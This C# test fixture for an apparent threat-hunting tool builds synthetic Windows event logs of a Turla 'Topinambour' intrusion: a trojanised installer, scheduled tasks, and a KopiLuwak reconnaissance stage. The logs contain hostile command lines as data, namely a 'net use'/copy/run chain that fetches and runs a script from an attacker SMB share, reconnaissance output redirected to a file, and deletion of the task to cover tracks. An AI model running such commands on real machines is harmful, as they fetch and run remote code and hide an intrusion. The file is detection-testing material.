using System;
using System.Collections.Generic;
using static TurlaHunt.Tests.Samples.SampleHost;

namespace TurlaHunt.Tests.Samples;

/// <summary>
/// A working day on one workstation in four logs: a trojanised installer, its task of every 30 minutes, a script
/// fetched over SMB, a second task; and what else happens on a workstation.
/// </summary>
/// <remarks>
/// After Kaspersky GReAT, "Turla renews its arsenal with Topinambour", 15 July 2019. The article names neither the first
/// task nor the second one's trigger; those, the host, the people and the times are invented, as is the password.
/// </remarks>
internal sealed partial class TopinambourStory
{
    private const string Attacker = "197.168.0.247";
    private const string CertCheck = @"C:\Users\m.weber\AppData\Local\VirtualStore\certcheck.exe";
    private const string CertCheckTask = @"\CertificateCheck";
    private const string ChkdskScript = @"C:\Users\m.weber\AppData\Roaming\Microsoft\Chkdsk.js";
    private const string FetchCommand =
        @"net use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator"
        + @" & copy /y \\197.168.0.247\c$\users\public\documents\i.js C:\Users\m.weber\Documents\j.js"
        + @" & C:\Users\m.weber\Documents\j.js";

    private const string System32 = @"C:\Windows\System32\";
    private const string UserDirectory = @"C:\Users\m.weber\";

    private readonly SecurityEvents _security = new();
    private readonly TaskSchedulerEvents _tasks = new();
    private readonly SysmonEvents _sysmon = new();
    private readonly SmbClientEvents _smb = new();
    private readonly SampleProcess _services;
    private readonly SampleProcess _winlogon;
    private readonly SampleProcess _taskService;
    private readonly SampleProcess _explorer;

    private TopinambourStory()
    {
        (_services, _winlogon) = Boot();
        _taskService = Service("07:42:02.1180225", 1268, "-k netsvcs -p -s Schedule");
        _explorer = Morning();
        OfficeNoise();
        WindowsTasks();
        SoftwareUpdater();
        Infection();
        SampleProcess[] runs = CertCheckRuns();
        SampleProcess script = FetchOverSmb(runs[1]);
        KopiLuwak(script);
        Disconnect(runs[2]);
        Refused();
        TidyingUp(runs[5]);
    }

    /// <summary>The channels with all their events.</summary>
    public static IReadOnlyList<SampleChannel> Tell()
    {
        TopinambourStory story = new();
        return [story._security.Channel, story._tasks.Channel, story._sysmon.Channel, story._smb.Channel];
    }

    private void Infection()
    {
        const string Installer = @"C:\Users\m.weber\Downloads\psiphon3.exe";
        const string Genuine = @"C:\Users\m.weber\AppData\Local\Temp\activator.exe";
        _sysmon.KnownHashes[Installer] =
            "MD5=110195FF4D7298BA9A186335C55B2D1F,SHA256=8BCF125B442F86D24789B37CE64D125B54668BC4608F49828392B5B66E364284";

        SampleProcess dropper = Start("09:12:07.4133812", 6700, Installer, $"\"{Installer}\" ",
            _explorer, directory: @"C:\Users\m.weber\Downloads\");
        _sysmon.FileCreated(At("09:12:09.0051177"), dropper, CertCheck);
        _sysmon.FileCreated(At("09:12:09.2290834"), dropper, Genuine);
        Start("09:12:09.6017750", 6744, Genuine, $"\"{Genuine}\" ", dropper, directory: @"C:\Users\m.weber\Downloads\");
        RegisterTask("09:12:11.8830415", dropper, CertCheckTask, @"CONTOSO\m.weber", SampleTaskXml.Repeating(
            SampleTaskXml.Registration(@"CONTOSO\m.weber", CertCheckTask, date: "2019-07-10T11:12:11"),
            "2019-07-10T11:42:00", "PT30M", SampleTaskXml.Interactive(@"CONTOSO\m.weber"), CertCheck, ""));
    }

    // Every half hour, as the task says. The second run is given a command that takes longer.
    private SampleProcess[] CertCheckRuns()
    {
        SampleProcess[] runs = new SampleProcess[6];
        for (int i = 0; i < runs.Length; i++)
        {
            DateTime time = At("09:42:00.2310744").AddMinutes(30 * i).AddTicks(77_431 * i);
            runs[i] = Start(time, (uint)(7104 + (24 * i)), CertCheck, CertCheck + " ", _taskService, Weber);
            _tasks.Ran(
                time.AddTicks(2_611), TimeSpan.FromSeconds(i == 1 ? 412.7 : 21.3), CertCheckTask, @"CONTOSO\m.weber",
                CertCheck, Instance(i), runs[i].Id);
        }

        return runs;
    }

    /// <returns>The script host that runs what was fetched.</returns>
    private SampleProcess FetchOverSmb(SampleProcess shell)
    {
        SampleProcess command = Start(
            "10:12:44.1066120", 7300, System32 + "cmd.exe", "cmd.exe /c " + FetchCommand, shell);
        Start("10:12:44.1480337", 7308, System32 + "conhost.exe",
            @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", command, directory: @"C:\Windows");

        // cmd.exe hands on what stands before the first "&"; net.exe shows it with two spaces.
        Start("10:12:44.3907721", 7324, System32 + "net.exe",
            @"net  use \\197.168.0.247\c$ Not-A-Real-Passw0rd /user:administrator ", command);
        Smb("10:12:44.5213390", 49977, Attacker, "");
        _security.CredentialsUsed(At("10:12:46.8740552"), Weber, "administrator", Attacker, "445");
        _sysmon.FileCreated(At("10:12:48.7711603"), command, @"C:\Users\m.weber\Documents\j.js");
        return Start("10:12:49.0120088", 7352, System32 + "wscript.exe",
            @"""C:\Windows\System32\WScript.exe"" ""C:\Users\m.weber\Documents\j.js"" ", command);
    }

    // The next run drops the connection: net use again, but to delete.
    private void Disconnect(SampleProcess shell)
    {
        SampleProcess command = Start("10:42:09.7203318", 7600, System32 + "cmd.exe",
            @"cmd.exe /c net use \\197.168.0.247\c$ /delete /y", shell);
        Start("10:42:09.9110472", 7624, System32 + "net.exe", @"net  use \\197.168.0.247\c$ /delete /y", command);
    }

    // The run after that reaches for the share by itself, without a net use, and the server knows the password no more.
    private void Refused()
    {
        Smb("11:12:03.0948817", 50064, Attacker, "");
        _smb.LogonFailed(At("11:12:05.3370127"), Weber, Attacker, "administrator");
    }

    private void KopiLuwak(SampleProcess script)
    {
        const string Task = @"\ProactiveScan";
        const string Arguments = "-scan Kdw6gG7cpOSZsBeH";
        _sysmon.FileCreated(At("10:12:51.3008114"), script, ChkdskScript);
        RegisterTask("10:12:53.4411907", script, Task, @"CONTOSO\m.weber", SampleTaskXml.AtLogon(
            SampleTaskXml.Registration(@"CONTOSO\m.weber", Task, "NTFS Volume Health Scan", "2019-07-10T12:12:53"),
            @"CONTOSO\m.weber", ChkdskScript, Arguments));

        SampleProcess implant = Start("10:13:30.6600251", 7420, System32 + "wscript.exe",
            $@"""C:\Windows\System32\WScript.exe"" ""{ChkdskScript}"" {Arguments}", _taskService, Weber);
        _tasks.Ran(
            implant.Started.AddTicks(2_404), TimeSpan.FromSeconds(44.1), Task, @"CONTOSO\m.weber",
            ChkdskScript, Instance(92), implant.Id);

        // It looks round and keeps what it sees in t235.dat.
        string[] commands = ["systeminfo", "net view", "tasklist /v", "gpresult /z", "tracert www.google.com"];
        for (int i = 0; i < commands.Length; i++)
        {
            DateTime time = At("10:13:32.2050111").AddSeconds(6.4 * i);
            uint id = (uint)(7440 + (16 * i));
            SampleProcess prompt = Start(time, id, System32 + "cmd.exe",
                $@"""C:\Windows\System32\cmd.exe"" /c {commands[i]} >> ""%appdata%\Microsoft\t235.dat""", implant);
            string[] words = commands[i].Split([' '], 2);
            Start(time.AddTicks(410_093), id + 8, System32 + words[0] + ".exe",
                words[0] + (words.Length > 1 ? "  " + words[1] : ""), prompt);
        }
    }

    private void TidyingUp(SampleProcess shell)
    {
        SampleProcess command = Start("12:12:15.4410033", 8100, System32 + "cmd.exe",
            "cmd.exe /c schtasks /delete /tn CertificateCheck /f", shell);
        SampleProcess deleter = Start("12:12:15.6022915", 8124, System32 + "schtasks.exe",
            "schtasks  /delete /tn CertificateCheck /f", command);
        _tasks.Deleted(At("12:12:15.7400871"), CertCheckTask, @"CONTOSO\m.weber");
        _security.TaskDeleted(At("12:12:15.7404420"), deleter, CertCheckTask);
    }

    private static Guid Instance(int number) => new($"8f1c52d0-6b3e-4e7a-9d21-0000000000{number:D2}");

    private SampleProcess Early(string time, uint id, string file, SampleProcess parent)
    {
        SampleProcess process = new(id, System32 + file, "", @"C:\Windows\system32\", SampleHost.System, parent, At(time));
        _security.ProcessCreated(process);
        return process;
    }

    private SampleProcess Service(string time, uint id, string arguments) =>
        Start(time, id, System32 + "svchost.exe", @"C:\Windows\system32\svchost.exe " + arguments, _services);

    private SampleProcess Start(
        string time, uint id, string image, string commandLine, SampleProcess parent,
        SampleLogon? logon = null, string? directory = null) =>
        Start(At(time), id, image, commandLine, parent, logon, directory);

    // Each start is told twice: by the audit log, and a little later by Sysmon.
    private SampleProcess Start(
        DateTime time, uint id, string image, string commandLine, SampleProcess parent,
        SampleLogon? logon = null, string? directory = null)
    {
        SampleProcess process =
            new(id, image, commandLine, directory ?? parent.Directory, logon ?? parent.Logon, parent, time);
        _security.ProcessCreated(process);
        _sysmon.ProcessCreated(process with { Started = time.AddTicks(1_730) });
        return process;
    }

    private void RegisterTask(string time, SampleProcess by, string task, string principal, string content)
    {
        _tasks.Registered(At(time), task, principal);
        _security.TaskCreated(At(time).AddTicks(4_124), by, task, content);
    }

    // The redirector in the kernel connects, not the program that asked for it.
    private void Smb(string time, int sourcePort, string address, string host)
    {
        _security.ConnectionAllowed(At(time), Kernel.Id, Kernel.Image, sourcePort, address, 445);
        _sysmon.Connected(At(time), Kernel, sourcePort, address, host, 445, "microsoft-ds");
    }
}
